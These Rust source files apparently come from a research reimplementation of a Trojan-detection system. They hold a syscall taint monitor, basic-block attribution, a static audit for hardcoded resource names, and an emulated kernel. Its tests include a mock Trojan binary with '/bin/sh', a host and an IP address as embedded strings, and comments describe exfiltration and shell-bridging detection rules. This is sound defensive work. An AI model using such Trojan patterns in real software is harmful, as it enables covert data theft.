        let _span = hth_trace::span("harrier.attach");
        let mut mon = ProcMon {
            shadow: Shadow::new(),
            freq: BbFreq::new(ImageId(0)),
            image_tags: Vec::new(),
            origins: HashMap::new(),
            bound_ports: HashMap::new(),
            last_syscall_addr: 0,
        };
        self.shadow_images(&mut mon, proc);
        let (lo, hi) = proc.initial_stack;
        if self.config.track_dataflow && hi > lo {
            mon.shadow.set_range(lo, hi - lo, self.user_tag);
        }
        self.procs.insert(proc.pid, mon);
    }

    fn shadow_images(&mut self, mon: &mut ProcMon, proc: &Process) {
        mon.image_tags.clear();
        for image in proc.core.images() {
            let id = self.sources.intern(DataSource::Binary(image.name().clone()));
            let tag = self.store.single(id);
            mon.image_tags.push(tag);
            if self.config.track_dataflow && !image.data().is_empty() {
                mon.shadow.set_range(image.data_base(), image.data().len() as u32, tag);
            }
        }
    }

    /// Clones monitor state from parent to a forked child.
    ///
    /// # Panics
    ///
    /// Panics when the parent was never attached.
    pub fn fork_attach(&mut self, parent_pid: u32, child_pid: u32) {
        let mon = self.procs.get(&parent_pid).expect("fork of unmonitored process").clone();
        self.procs.insert(child_pid, mon);
    }

    /// Re-attaches after a successful `execve` (new image, fresh shadow;
    /// descriptor origins survive, like the descriptors themselves).
    pub fn on_exec(&mut self, proc: &Process) {
        let origins =
            self.procs.remove(&proc.pid).map(|m| (m.origins, m.bound_ports)).unwrap_or_default();
        self.attach(proc);
        if let Some(mon) = self.procs.get_mut(&proc.pid) {
            (mon.origins, mon.bound_ports) = origins;
        }
    }

    /// Stops monitoring an exited process.
    pub fn detach(&mut self, pid: u32) {
        self.procs.remove(&pid);
    }

    /// Per-step hook adapter for one process. Pass to [`hth_vm::Core::step`].
    ///
    /// # Panics
    ///
    /// Panics when `pid` was never attached.
    pub fn hooks(&mut self, pid: u32) -> HarrierHooks<'_> {
        let mon = self.procs.get_mut(&pid).expect("hooks for unmonitored process");
        HarrierHooks {
            mon,
            store: &mut self.store,
            track_dataflow: self.config.track_dataflow,
            track_bb: self.config.track_bb_freq,
            hardware: self.hardware_tag,
        }
    }

    /// Basic-block attribution for `pid` (tests and diagnostics).
    pub fn attribution(&self, pid: u32) -> Option<(u32, u64)> {
        self.procs.get(&pid)?.freq.attribution()
    }

    /// Reads the current tag set of a memory range (tests/diagnostics).
    pub fn mem_tags(&self, pid: u32, addr: u32, len: u32) -> Vec<SourceInfo> {
        match self.procs.get(&pid) {
            Some(mon) => self.render_ids(&mon.shadow.range_ids(addr, len, &self.store)),
            None => Vec::new(),
        }
    }

    fn render_ids(&self, ids: &[SourceId]) -> Vec<SourceInfo> {
        ids.iter()
            .map(|&id| {
                let src = self.sources.get(id);
                SourceInfo {
                    kind: match src {
                        DataSource::UserInput => ResourceType::UserInput,
                        DataSource::File(_) => ResourceType::File,
                        DataSource::Socket(_) => ResourceType::Socket,
                        DataSource::Binary(_) => ResourceType::Binary,
                        DataSource::Hardware => ResourceType::Hardware,
                    },
                    name: src.name().unwrap_or(src.type_name()).to_string(),
                }
            })
            .collect()
    }

    fn origin_from(&self, tags: TagRef) -> Origin {
        Origin { sources: self.render_ids(self.store.ids(tags)) }
    }

    /// Renders a kernel resource as a typed name (sockets use the
    /// paper's `host:port (AF_INET)` rendering).
    fn resource_info(&self, resource: &Resource, kernel: &Kernel) -> SourceInfo {
        match resource {
            Resource::File { path, .. } => SourceInfo::new(ResourceType::File, path.clone()),
            Resource::Stdin => SourceInfo::new(ResourceType::UserInput, "STDIN"),
            Resource::Stdout => SourceInfo::new(ResourceType::Console, "STDOUT"),
            Resource::Stderr => SourceInfo::new(ResourceType::Console, "STDERR"),
            Resource::Socket { local, remote, listening, accepted } => {
                let name = if *listening {
                    local.map(|ep| kernel.net.display_endpoint(ep))
                } else if *accepted {
                    remote.map(|ep| kernel.net.display_endpoint(ep))
                } else {
                    remote.or(*local).map(|ep| kernel.net.display_endpoint(ep))
                };
                SourceInfo::new(ResourceType::Socket, name.unwrap_or_else(|| "socket".into()))
            }
            Resource::Pipe { id } => SourceInfo::new(ResourceType::Pipe, format!("pipe:{id}")),
            Resource::Proc { path } => SourceInfo::new(ResourceType::Proc, path.clone()),
        }
    }

    /// The data source bytes read from this resource should carry.
    fn read_source(&mut self, resource: &Resource, kernel: &Kernel) -> Option<DataSource> {
        Some(match resource {
            Resource::File { path, .. } => DataSource::file(path),
            Resource::Stdin => DataSource::UserInput,
            Resource::Stdout | Resource::Stderr => return None,
            Resource::Socket { .. } => {
                let info = self.resource_info(resource, kernel);
                DataSource::socket(info.name)
            }
            // Pipe reads don't mint a new source: the buffer inherits
            // the taint the pipe's bytes carried in (see the Read arm).
            Resource::Pipe { .. } => return None,
            // /proc content is the process's own state rendered by the
            // kernel — treat it as file content named by its path so
            // exfiltration fires the file→socket flow rules.
            Resource::Proc { path } => DataSource::file(path),
        })
    }

    fn server_info_for(
        &self,
        mon: &ProcMon,
        resource: &Resource,
        kernel: &Kernel,
    ) -> Option<ServerInfo> {
        let Resource::Socket { local, accepted: true, .. } = resource else {
            return None;
        };
        let local = (*local)?;
        let address = mon
            .bound_ports
            .get(&local.port)
            .cloned()
            .unwrap_or_else(|| kernel.net.display_endpoint(local));
        let origin =
            mon.origins.get(&address).map(|rec| self.origin_from(rec.tags)).unwrap_or_default();
        Some(ServerInfo { address, origin })
    }

    /// Digests one serviced syscall: updates shadow state and produces
    /// the Secpert events it implies. Call *after* [`Kernel::fork`] for
    /// fork effects so process counts include the new child.
    pub fn on_syscall(
        &mut self,
        proc: &Process,
        record: &SyscallRecord,
        kernel: &Kernel,
    ) -> Vec<SecpertEvent> {
        let _span = hth_trace::span("harrier.on_syscall");
        if !self.procs.contains_key(&proc.pid) {
            self.attach(proc);
        }
        let pid = proc.pid;
        let time = kernel.now();
        let (address, frequency) = {
            let mon = &self.procs[&pid];
            mon.freq.attribution().unwrap_or((proc.core.cpu.eip.wrapping_sub(4), 1))
        };
        // Kernel return values are fresh data: clear eax's taint.
        if self.config.track_dataflow {
            if let Some(mon) = self.procs.get_mut(&pid) {
                mon.shadow.set_reg(Reg::Eax, TagRef::EMPTY);
            }
        }
        let mut events = Vec::new();
        match &record.effect {
            SyscallEffect::None | SyscallEffect::Exit { .. } | SyscallEffect::Sleep { .. } => {}
            SyscallEffect::Brk { total, .. } => {
                events.push(SecpertEvent::ResourceAccess {
                    pid,
                    syscall: record.name,
                    resource: SourceInfo::new(ResourceType::Unknown, "heap"),
                    origin: Origin::unknown(),
                    time,
                    frequency,
                    address,
                    proc_count: None,
                    proc_rate: None,
                    mem_total: Some(*total),
                    server: None,
                });
            }
            SyscallEffect::Close { .. }
            | SyscallEffect::Dup { .. }
            | SyscallEffect::SocketCreated { .. }
            | SyscallEffect::Chmod { .. } => {}
            SyscallEffect::Open { .. } | SyscallEffect::Mknod { .. } => {
                // Mknod carries a path instead of a resource; normalise.
                let (resource, path_addr) = match &record.effect {
                    SyscallEffect::Open { resource, path_addr, .. } => {
                        (resource.clone(), *path_addr)
                    }
                    SyscallEffect::Mknod { path, path_addr } => {
                        (Resource::File { path: path.clone(), fifo: true }, *path_addr)
                    }
                    _ => unreachable!(),
                };
                let info = self.resource_info(&resource, kernel);
                let name_len = info.name.len() as u32;
                let tags =
                    self.procs[&pid].shadow.range(path_addr, name_len.max(1), &mut self.store);
                let origin = self.origin_from(tags);
                self.procs
                    .get_mut(&pid)
                    .expect("attached above")
                    .origins
                    .insert(info.name.clone(), OriginRecord { tags, server: None });
                events.push(SecpertEvent::ResourceAccess {
                    pid,
                    syscall: record.name,
                    resource: info,
                    origin,
                    time,
                    frequency,
                    address,
                    proc_count: None,
                    proc_rate: None,
                    mem_total: None,
                    server: None,
                });
            }
            SyscallEffect::Read { resource, buf, len } => {
                if self.config.track_dataflow && *len > 0 {
                    if let Resource::Pipe { id } = resource {
                        // Bytes out of a pipe carry whatever taint went
                        // in — laundering through fd plumbing does NOT
                        // clear tags.
                        let tag = self.pipe_tags.get(id).copied().unwrap_or(TagRef::EMPTY);
                        self.procs
                            .get_mut(&pid)
                            .expect("attached above")
                            .shadow
                            .set_range(*buf, *len, tag);
                    } else if let Some(src) = self.read_source(resource, kernel) {
                        let id = self.sources.intern(src);
                        let tag = self.store.single(id);
                        self.procs
                            .get_mut(&pid)
                            .expect("attached above")
                            .shadow
                            .set_range(*buf, *len, tag);
                    }
                }
            }
            SyscallEffect::Write { resource, buf, len } => {
                if self.config.track_dataflow {
                    if let Resource::Pipe { id } = resource {
                        // The pipe's buffered bytes accumulate the
                        // union of everything written into it.
                        let written = self.procs[&pid].shadow.range(*buf, *len, &mut self.store);
                        let prior = self.pipe_tags.get(id).copied().unwrap_or(TagRef::EMPTY);
                        self.pipe_tags.insert(*id, self.store.union(prior, written));
                    }
                }
                let target = self.resource_info(resource, kernel);
                let executable_content = proc
                    .core
                    .mem
                    .read_bytes(*buf, (*len).min(4))
                    .map(|head| looks_executable(&head))
                    .unwrap_or(false);
                let tags = self.procs[&pid].shadow.range(*buf, *len, &mut self.store);
                // Union the identifier origins of every named data
                // source (where did each source *file's name* come
                // from — §4.3's user-vs-hardcoded distinction).
                let mut origin_tags = TagRef::EMPTY;
                let data_ids: Vec<SourceId> = self.store.ids(tags).to_vec();
                for id in data_ids {
                    if let Some(name) = self.sources.get(id).name() {
                        let named = self.procs[&pid].origins.get(name).map(|rec| rec.tags);
                        if let Some(named) = named {
                            origin_tags = self.store.union(origin_tags, named);
                        }
                    }
                }
                let (data_sources, data_origin, target_origin, server) = {
                    let mon = &self.procs[&pid];
                    let target_origin = mon
                        .origins
                        .get(&target.name)
                        .map(|rec| self.origin_from(rec.tags))
                        .unwrap_or_default();
                    let server = self
                        .server_info_for(mon, resource, kernel)
                        .or_else(|| self.server_from_data(mon, tags));
                    (
                        self.render_ids(self.store.ids(tags)),
                        self.origin_from(origin_tags),
                        target_origin,
                        server,
                    )
                };
                events.push(SecpertEvent::DataTransfer {
                    pid,
                    syscall: record.name,
                    data_sources,
                    data_origin,
                    target,
                    target_origin,
                    time,
                    frequency,
                    address,
                    executable_content,
                    server,
                    bytes: u64::from(*len),
                });
            }
            SyscallEffect::ExecRequested { path, path_addr, .. } => {
                let tags = self.procs[&pid].shadow.range(
                    *path_addr,
                    path.len().max(1) as u32,
                    &mut self.store,
                );
                let origin = self.origin_from(tags);
                events.push(SecpertEvent::ResourceAccess {
                    pid,
                    syscall: record.name,
                    resource: SourceInfo::new(ResourceType::File, path.clone()),
                    origin,
                    time,
                    frequency,
                    address,
                    proc_count: None,
                    proc_rate: None,
                    mem_total: None,
                    server: None,
                });
            }
            SyscallEffect::ForkRequested => {
                let count = kernel.fork_ticks.len() as u64;
                let window_start = time.saturating_sub(self.config.fork_rate_window);
                let rate = kernel.fork_ticks.iter().filter(|&&t| t >= window_start).count() as u64;
                events.push(SecpertEvent::ResourceAccess {
                    pid,
                    syscall: record.name,
                    resource: SourceInfo::new(ResourceType::Unknown, "process"),
                    origin: Origin::unknown(),
                    time,
                    frequency,
                    address,
                    proc_count: Some(count),
                    proc_rate: Some(rate),
                    mem_total: None,
                    server: None,
                });
            }
            SyscallEffect::Bind { resource, addr_ptr, endpoint } => {
                let info = self.resource_info(resource, kernel);
                let rendered = kernel.net.display_endpoint(*endpoint);
                let tags = self.procs[&pid].shadow.range(*addr_ptr, 8, &mut self.store);
                let origin = self.origin_from(tags);
                let mon = self.procs.get_mut(&pid).expect("attached above");
                mon.bound_ports.insert(endpoint.port, rendered.clone());
                mon.origins.insert(rendered, OriginRecord { tags, server: None });
                events.push(SecpertEvent::ResourceAccess {
                    pid,
                    syscall: record.name,
                    resource: info,
                    origin,
                    time,
                    frequency,
                    address,
                    proc_count: None,
                    proc_rate: None,
                    mem_total: None,
                    server: None,
                });
            }
            SyscallEffect::Listen { resource } => {
                let info = self.resource_info(resource, kernel);
                let origin = self.procs[&pid]
                    .origins
                    .get(&info.name)
                    .map(|rec| self.origin_from(rec.tags))
                    .unwrap_or_default();
                events.push(SecpertEvent::ResourceAccess {
                    pid,
                    syscall: record.name,
                    resource: info,
                    origin,
                    time,
                    frequency,
                    address,
                    proc_count: None,
                    proc_rate: None,
                    mem_total: None,
                    server: None,
                });
            }
            SyscallEffect::Connect { resource, addr_ptr, endpoint } => {
                let info = self.resource_info(resource, kernel);
                let rendered = kernel.net.display_endpoint(*endpoint);
                let tags = self.procs[&pid].shadow.range(*addr_ptr, 8, &mut self.store);
                let origin = self.origin_from(tags);
                self.procs
                    .get_mut(&pid)
                    .expect("attached above")
                    .origins
                    .insert(rendered, OriginRecord { tags, server: None });
                events.push(SecpertEvent::ResourceAccess {
                    pid,
                    syscall: record.name,
                    resource: info,
                    origin,
                    time,
                    frequency,
                    address,
                    proc_count: None,
                    proc_rate: None,
                    mem_total: None,
                    server: None,
                });
            }
            SyscallEffect::Accept { resource, .. } => {
                let info = self.resource_info(resource, kernel);
                let socket_src = self.sources.intern(DataSource::socket(&info.name));
                let socket_tag = self.store.single(socket_src);
                let server = self.server_info_for(&self.procs[&pid], resource, kernel);
                let origin = Origin {
                    sources: vec![SourceInfo::new(ResourceType::Socket, info.name.clone())],
                };
                let server_rec = server.as_ref().map(|s| (s.address.clone(), TagRef::EMPTY));
                self.procs.get_mut(&pid).expect("attached above").origins.insert(
                    info.name.clone(),
                    OriginRecord { tags: socket_tag, server: server_rec },
                );
                events.push(SecpertEvent::ResourceAccess {
                    pid,
                    syscall: record.name,
                    resource: info,
                    origin,
                    time,
                    frequency,
                    address,
                    proc_count: None,
                    proc_rate: None,
                    mem_total: None,
                    server,
                });
            }
            SyscallEffect::PipeCreated { id, .. } => {
                self.pipe_tags.insert(*id, TagRef::EMPTY);
            }
            SyscallEffect::Mmap { resource, addr, len } => {
                // Mapped file pages inherit the file's data source, so
                // reads *through the mapping* carry the file's taint
                // exactly like `read` into a buffer would.
                if self.config.track_dataflow && *len > 0 {
                    if let Some(src) = self.read_source(resource, kernel) {
                        let id = self.sources.intern(src);
                        let tag = self.store.single(id);
                        self.procs
                            .get_mut(&pid)
                            .expect("attached above")
                            .shadow
                            .set_range(*addr, *len, tag);
                    }
                }
                let info = self.resource_info(resource, kernel);
                let origin = self.procs[&pid]
                    .origins
                    .get(&info.name)
                    .map(|rec| self.origin_from(rec.tags))
                    .unwrap_or_default();
                events.push(SecpertEvent::ResourceAccess {
                    pid,
                    syscall: record.name,
                    resource: info,
                    origin,
                    time,
                    frequency,
                    address,
                    proc_count: None,
                    proc_rate: None,
                    mem_total: None,
                    server: None,
                });
            }
            SyscallEffect::Munmap { addr, len } => {
                if self.config.track_dataflow && *len > 0 {
                    self.procs.get_mut(&pid).expect("attached above").shadow.set_range(
                        *addr,
                        *len,
                        TagRef::EMPTY,
                    );
                }
            }
            SyscallEffect::SignalRequested { target, sig } => {
                events.push(SecpertEvent::ResourceAccess {
                    pid,
                    syscall: record.name,
                    resource: SourceInfo::new(
                        ResourceType::Unknown,
                        format!("pid {target} sig {sig}"),
                    ),
                    origin: Origin::unknown(),
                    time,
                    frequency,
                    address,
                    proc_count: None,
                    proc_rate: None,
                    mem_total: None,
                    server: None,
                });
            }
            SyscallEffect::Resolve { name, name_addr, ok } => {
                if self.config.track_dataflow && self.config.short_circuit_resolution && *ok {
                    let tags = self.procs[&pid].shadow.range(
                        *name_addr,
                        name.len().max(1) as u32,
                        &mut self.store,
                    );
                    self.procs
                        .get_mut(&pid)
                        .expect("attached above")
                        .shadow
                        .set_reg(Reg::Eax, tags);
                }
            }
        }
        self.events_emitted += events.len() as u64;
        for _ in &events {
            hth_trace::instant("harrier.event");
        }
        events
    }

    /// Server context when the *data* flowed out of an accepted socket
    /// (pma's `outpipe → attacker` direction).
    fn server_from_data(&self, mon: &ProcMon, tags: TagRef) -> Option<ServerInfo> {
        for &id in self.store.ids(tags) {
            if let DataSource::Socket(name) = self.sources.get(id) {
                if let Some(rec) = mon.origins.get(name.as_ref()) {
                    if let Some((address, server_tags)) = &rec.server {
                        let origin = mon
                            .origins
                            .get(address)
                            .map(|r| self.origin_from(r.tags))
                            .unwrap_or_else(|| self.origin_from(*server_tags));
                        return Some(ServerInfo { address: address.clone(), origin });
                    }
                }
            }
        }
        None
    }
}

/// Magic-byte sniff for "executable content" (paper §10 item 5): ELF,
/// PE (`MZ`) and script shebangs.
fn looks_executable(head: &[u8]) -> bool {
    head.starts_with(b"\x7fELF") || head.starts_with(b"MZ") || head.starts_with(b"#!")
}

/// [`Hooks`] adapter borrowing one process's monitor state plus the
/// shared tag store.
pub struct HarrierHooks<'a> {
    mon: &'a mut ProcMon,
    store: &'a mut TagStore,
    track_dataflow: bool,
    track_bb: bool,
    hardware: TagRef,
}

impl Hooks for HarrierHooks<'_> {
    fn on_bb(&mut self, image: ImageId, leader: u32) {
        if self.track_bb {
            self.mon.freq.on_bb(image, leader);
        }
    }

    fn on_instr(&mut self, _image: ImageId, addr: u32, instr: &Instr) {
        if matches!(instr, Instr::Int(0x80)) {
            self.mon.last_syscall_addr = addr;
        }
    }

    fn on_taint(&mut self, image: ImageId, op: &TaintOp) {
        if self.track_dataflow {
            let binary = self.mon.image_tags[image.0 as usize];
            self.mon.shadow.apply(op, binary, self.hardware, self.store);
        }
    }
}
