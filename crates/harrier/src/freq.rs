//! Basic-block frequency with "last application BB" attribution
//! (paper §7.4, Figure 3).
//!
//! Only the application image's blocks are counted; when an event fires
//! inside a (trusted) shared object, it is attributed to the last
//! application basic block executed before control entered the library,
//! so `execve` reached through `libc` still counts against the calling
//! application code.

use std::collections::HashMap;

use hth_vm::ImageId;

/// Per-process basic-block statistics.
#[derive(Clone, Debug)]
pub struct BbFreq {
    app_image: ImageId,
    counts: HashMap<u32, u64>,
    last_app_bb: Option<u32>,
}

impl BbFreq {
    /// Creates statistics for a process whose application image is
    /// `app_image` (shared objects are not counted).
    pub fn new(app_image: ImageId) -> BbFreq {
        BbFreq { app_image, counts: HashMap::new(), last_app_bb: None }
    }

    /// Records entry into the basic block at `leader` of `image`.
    pub fn on_bb(&mut self, image: ImageId, leader: u32) {
        if image == self.app_image {
            *self.counts.entry(leader).or_insert(0) += 1;
            self.last_app_bb = Some(leader);
        }
    }

    /// The application basic block an event at the current point should
    /// be attributed to, with its execution count. `None` before any
    /// application block ran.
    pub fn attribution(&self) -> Option<(u32, u64)> {
        let bb = self.last_app_bb?;
        Some((bb, self.counts.get(&bb).copied().unwrap_or(0)))
    }

    /// Execution count of a specific leader.
    pub fn count(&self, leader: u32) -> u64 {
        self.counts.get(&leader).copied().unwrap_or(0)
    }

    /// Number of distinct application blocks seen.
    pub fn distinct_blocks(&self) -> usize {
        self.counts.len()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn counts_only_app_image() {
        let mut f = BbFreq::new(ImageId(0));
        f.on_bb(ImageId(0), 0x1000);
        f.on_bb(ImageId(1), 0x4000_0000); // libc block: ignored
        f.on_bb(ImageId(0), 0x1000);
        assert_eq!(f.count(0x1000), 2);
        assert_eq!(f.count(0x4000_0000), 0);
        assert_eq!(f.distinct_blocks(), 1);
    }

    #[test]
    fn attribution_sticks_across_library_code() {
        let mut f = BbFreq::new(ImageId(0));
        assert_eq!(f.attribution(), None);
        f.on_bb(ImageId(0), 0x1000);
        f.on_bb(ImageId(0), 0x1040);
        // Control moves into a shared object; attribution stays at the
        // last app block (paper Figure 3).
        f.on_bb(ImageId(1), 0x4000_0000);
        f.on_bb(ImageId(1), 0x4000_0040);
        assert_eq!(f.attribution(), Some((0x1040, 1)));
    }

    #[test]
    fn attribution_count_tracks_reexecution() {
        let mut f = BbFreq::new(ImageId(0));
        for _ in 0..3 {
            f.on_bb(ImageId(0), 0x2000);
            f.on_bb(ImageId(1), 0x4000_0000);
        }
        assert_eq!(f.attribution(), Some((0x2000, 3)));
    }
}
