//! Static "Secure Binary" audit (paper Appendix B).
//!
//! A *Secure Binary* contains no hardcoded resource names. This module
//! approximates the paper's static check by scanning an image's data
//! section for NUL-terminated strings that look like resource
//! identifiers (paths, host names, dotted quads) — the hardcoded values
//! a Trojan would use.

use hth_vm::Image;

/// One suspicious hardcoded string.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct HardcodedString {
    /// Address of the string in the image's data section.
    pub addr: u32,
    /// The string.
    pub text: String,
    /// Why it looks like a resource identifier.
    pub reason: &'static str,
}

/// Audit verdict for an image.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct SecureBinaryReport {
    /// Image name.
    pub image: String,
    /// Resource-identifier-like strings found.
    pub findings: Vec<HardcodedString>,
}

impl SecureBinaryReport {
    /// True when the image satisfies the (relaxed) Secure Binary rule:
    /// no hardcoded resource names.
    pub fn is_secure(&self) -> bool {
        self.findings.is_empty()
    }
}

/// Extracts printable NUL-terminated strings of length ≥ `min_len` from
/// the image's data section, with their addresses.
pub fn strings(image: &Image, min_len: usize) -> Vec<(u32, String)> {
    let mut out = Vec::new();
    let mut start = None;
    let data = image.data();
    for (i, &b) in data.iter().enumerate() {
        let printable = (0x20..0x7f).contains(&b);
        match (printable, start) {
            (true, None) => start = Some(i),
            (false, Some(s)) => {
                if b == 0 && i - s >= min_len {
                    let text = String::from_utf8_lossy(&data[s..i]).into_owned();
                    out.push((image.data_base() + s as u32, text));
                }
                start = None;
            }
            _ => {}
        }
    }
    out
}

fn classify(text: &str) -> Option<&'static str> {
    if text.starts_with('/') && text.len() > 1 {
        return Some("absolute path");
    }
    if text.starts_with("./") || text.starts_with("../") {
        return Some("relative path");
    }
    let dotted = text.split('.').collect::<Vec<_>>();
    if dotted.len() == 4 && dotted.iter().all(|p| p.parse::<u8>().is_ok()) {
        return Some("dotted-quad address");
    }
    if dotted.len() >= 2
        && dotted
            .iter()
            .all(|p| !p.is_empty() && p.chars().all(|c| c.is_ascii_alphanumeric() || c == '-'))
        && dotted.last().is_some_and(|tld| tld.chars().all(|c| c.is_ascii_alphabetic()))
        && text.chars().any(|c| c.is_ascii_alphabetic())
    {
        return Some("host name");
    }
    None
}

/// Audits an image per the relaxed Appendix B rule.
pub fn audit(image: &Image) -> SecureBinaryReport {
    let findings = strings(image, 3)
        .into_iter()
        .filter_map(|(addr, text)| {
            classify(&text).map(|reason| HardcodedString { addr, text, reason })
        })
        .collect();
    SecureBinaryReport { image: image.name().to_string(), findings }
}

#[cfg(test)]
mod tests {
    use super::*;
    use hth_vm::asm::assemble;

    #[test]
    fn finds_paths_and_hosts() {
        let img = assemble(
            "/bin/trojan",
            r#"
            _start: hlt
            .data
            p1: .asciz "/bin/sh"
            h1: .asciz "pop.mail.yahoo.com"
            q1: .asciz "63.246.131.30"
            ok: .asciz "hello world"
            n:  .long 7
            "#,
            0,
        )
        .unwrap();
        let report = audit(&img);
        assert!(!report.is_secure());
        let reasons: Vec<_> = report.findings.iter().map(|f| f.reason).collect();
        assert!(reasons.contains(&"absolute path"));
        assert!(reasons.contains(&"host name"));
        assert!(reasons.contains(&"dotted-quad address"));
        assert_eq!(report.findings.len(), 3, "plain text is not flagged");
    }

    #[test]
    fn clean_binary_is_secure() {
        let img =
            assemble("/bin/clean", "_start: hlt\n.data\nmsg: .asciz \"usage: clean FILE\"\n", 0)
                .unwrap();
        assert!(audit(&img).is_secure());
    }

    #[test]
    fn relative_paths_flagged() {
        let img = assemble("/bin/t", "_start: hlt\n.data\np: .asciz \"./Window\"\n", 0).unwrap();
        assert_eq!(audit(&img).findings[0].reason, "relative path");
    }

    #[test]
    fn string_extraction_addresses() {
        let img =
            assemble("/bin/t", "_start: hlt\n.data\na: .asciz \"abc\"\nb: .asciz \"defg\"\n", 0)
                .unwrap();
        let strs = strings(&img, 3);
        assert_eq!(strs.len(), 2);
        assert_eq!(strs[0].1, "abc");
        assert_eq!(strs[0].0, img.data_base());
        assert_eq!(strs[1].0, img.data_base() + 4);
    }
}
