//! The original per-byte shadow implementation, kept verbatim as a
//! reference oracle.
//!
//! [`NaiveShadow`] stores one heap-allocated [`TagSet`] per register and
//! per shadowed memory byte — the straightforward reading of paper §5.1
//! that the compressed [`crate::Shadow`] replaces. It is compiled only
//! for tests and under the `naive-shadow` feature, where the
//! differential oracle (`tests/shadow_diff.rs`) and the taint benchmarks
//! drive both implementations on identical operation sequences.

use std::collections::HashMap;

use hth_vm::{Loc, Reg, TaintOp};

use crate::tag::{SourceId, TagSet};

const PAGE: u32 = 4096;

/// Per-process shadow state with one [`TagSet`] per byte (the
/// pre-optimization representation).
#[derive(Clone, Debug, Default)]
pub struct NaiveShadow {
    regs: [TagSet; 8],
    pages: HashMap<u32, Box<[TagSet]>>,
}

impl NaiveShadow {
    /// Fresh, fully-untainted shadow state.
    pub fn new() -> NaiveShadow {
        NaiveShadow::default()
    }

    /// Tag of a register.
    pub fn reg(&self, reg: Reg) -> &TagSet {
        &self.regs[reg.index()]
    }

    /// Sets a register's tag.
    pub fn set_reg(&mut self, reg: Reg, tag: TagSet) {
        self.regs[reg.index()] = tag;
    }

    /// Tag of one memory byte.
    pub fn byte(&self, addr: u32) -> TagSet {
        match self.pages.get(&(addr / PAGE)) {
            Some(page) => page[(addr % PAGE) as usize].clone(),
            None => TagSet::empty(),
        }
    }

    fn page_mut(&mut self, page: u32) -> &mut [TagSet] {
        self.pages.entry(page).or_insert_with(|| vec![TagSet::empty(); PAGE as usize].into())
    }

    /// Sets one memory byte's tag.
    pub fn set_byte(&mut self, addr: u32, tag: TagSet) {
        self.page_mut(addr / PAGE)[(addr % PAGE) as usize] = tag;
    }

    /// Union of the tags of `len` bytes starting at `addr`.
    pub fn range(&self, addr: u32, len: u32) -> TagSet {
        let mut out = TagSet::empty();
        for i in 0..len {
            out = out.union(&self.byte(addr.wrapping_add(i)));
        }
        out
    }

    /// Sets `len` bytes to the same tag.
    pub fn set_range(&mut self, addr: u32, len: u32, tag: &TagSet) {
        for i in 0..len {
            self.set_byte(addr.wrapping_add(i), tag.clone());
        }
    }

    /// Clears `len` bytes.
    pub fn clear_range(&mut self, addr: u32, len: u32) {
        self.set_range(addr, len, &TagSet::empty());
    }

    /// Tag at a [`Loc`].
    pub fn read_loc(&self, loc: Loc) -> TagSet {
        match loc {
            Loc::Reg(r) => self.reg(r).clone(),
            Loc::Mem(addr, len) => self.range(addr, len),
        }
    }

    /// Sets the tag at a [`Loc`].
    pub fn write_loc(&mut self, loc: Loc, tag: TagSet) {
        match loc {
            Loc::Reg(r) => self.set_reg(r, tag),
            Loc::Mem(addr, len) => self.set_range(addr, len, &tag),
        }
    }

    /// Applies one dataflow micro-op (paper §7.3.1), exactly as the
    /// compressed [`crate::Shadow::apply`] must.
    pub fn apply(&mut self, op: &TaintOp, binary: SourceId, hardware: SourceId) {
        let mut tag = TagSet::empty();
        for src in op.srcs.iter().flatten() {
            tag = tag.union(&self.read_loc(*src));
        }
        if op.imm {
            tag = tag.with(binary);
        }
        if op.hardware {
            tag = tag.with(hardware);
        }
        self.write_loc(op.dst, tag);
    }
}
