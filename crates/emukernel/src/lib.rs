//! # emukernel — the OS substrate under HTH
//!
//! The paper runs real programs on real Linux; Harrier observes them at
//! the syscall boundary. This crate replaces Linux with a deterministic
//! emulated kernel exposing the *same observable surface*:
//!
//! * an in-memory [`Vfs`] with regular files and FIFOs (`mknod`),
//! * a simulated [`Network`] — DNS, scripted remote peers for outbound
//!   connections, scripted remote clients for inbound ones,
//! * a [`Kernel`] servicing i386-style `int 0x80` syscalls (`open`,
//!   `read`, `write`, `execve`, `fork`/`clone`, `socketcall`, …) and
//!   reporting each call's observable effect as a [`SyscallRecord`] for
//!   the monitor,
//! * [`Process`] construction with argv/environment placed on the
//!   initial stack (which Harrier tags `USER_INPUT`), `fork` cloning and
//!   `execve` image replacement, and
//! * a virtual clock driven by retired instructions and `nanosleep`.
//!
//! ```
//! use emukernel::Kernel;
//! use hth_vm::{NullHooks, StepEvent};
//! # fn main() -> Result<(), Box<dyn std::error::Error>> {
//! let mut kernel = Kernel::new();
//! kernel.register_binary(
//!     "/bin/hello",
//!     r#"
//!     _start:
//!         mov eax, 4      ; write
//!         mov ebx, 1      ; stdout
//!         mov ecx, msg
//!         mov edx, 6
//!         int 0x80
//!         mov eax, 1      ; exit
//!         mov ebx, 0
//!         int 0x80
//!     .data
//!     msg: .asciz "hello\n"
//!     "#,
//!     &[],
//! );
//! let mut proc = kernel.spawn("/bin/hello", &["/bin/hello"], &[])?;
//! while proc.runnable() {
//!     match proc.core.step(&mut NullHooks)? {
//!         StepEvent::Interrupt(0x80) => { kernel.syscall(&mut proc); }
//!         StepEvent::Continue => {}
//!         _ => break,
//!     }
//! }
//! assert_eq!(kernel.stdout(), b"hello\n");
//! # Ok(())
//! # }
//! ```

#![warn(missing_docs)]

pub mod abi;
mod kernel;
mod net;
mod process;
mod vfs;

pub use abi::{
    asm_consts, name_of, sockcall, stub_source, sysno, ArgKind, CStrArg, SyscallDef, MAX_CSTR_LEN,
    SOCKETCALL_NAMES, TABLE,
};
pub use kernel::{
    build_initial_stack, errno, oflags, BinarySpec, Kernel, Resource, SpawnError, SyscallEffect,
    SyscallRecord, APP_BASE, FD_MAX, HEAP_BASE, LIB_BASE, LIB_STRIDE, MAX_HEAP, MAX_MMAP_LEN,
    MAX_SLEEP_TICKS, MMAP_BASE, MMAP_LIMIT, SCRATCH_BASE, SCRATCH_SIZE, STACK_BASE, STACK_TOP,
};
pub use net::{Endpoint, Ip, NetError, Network, Peer, RemoteClient, Socket, SocketId, SocketState};
pub use process::{FdKind, FdTable, ProcState, Process};
pub use vfs::{FileKind, FileNode, Vfs};
