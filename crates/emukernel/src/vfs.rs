//! In-memory virtual filesystem.
//!
//! Regular files are byte vectors; FIFOs (named pipes, created with
//! `mknod`) are byte queues — the paper's `pma` daemon bridges a shell
//! through two FIFOs, so they matter for the Table 8 reproduction.

